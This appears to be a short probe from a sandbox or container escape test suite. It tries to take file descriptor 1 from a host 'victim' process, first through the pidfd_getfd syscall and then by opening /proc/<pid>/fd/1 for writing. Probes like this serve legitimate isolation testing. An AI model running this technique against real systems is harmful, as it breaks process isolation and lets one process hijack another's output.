# Takes an open descriptor out of a process of the host.
# severity: critical
# escape: said
import os

from raw import A, attempt, call, tried

attempt("pidfd_getfd", lambda: call("pidfd_getfd", os.pidfd_open(int(A.victim)), 1, 0))
attempt("its descriptor by /proc", lambda: os.open(f"/proc/{A.victim}/fd/1", os.O_WRONLY))
tried()
